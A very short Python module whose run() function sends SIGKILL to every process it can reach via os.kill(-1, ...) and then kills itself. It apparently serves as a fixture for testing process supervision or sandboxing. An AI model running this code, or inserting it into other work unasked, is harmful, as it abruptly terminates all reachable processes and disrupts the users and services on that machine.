"""Kills every process that it may."""

import os
import signal


def run():
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    os.kill(os.getpid(), signal.SIGKILL)
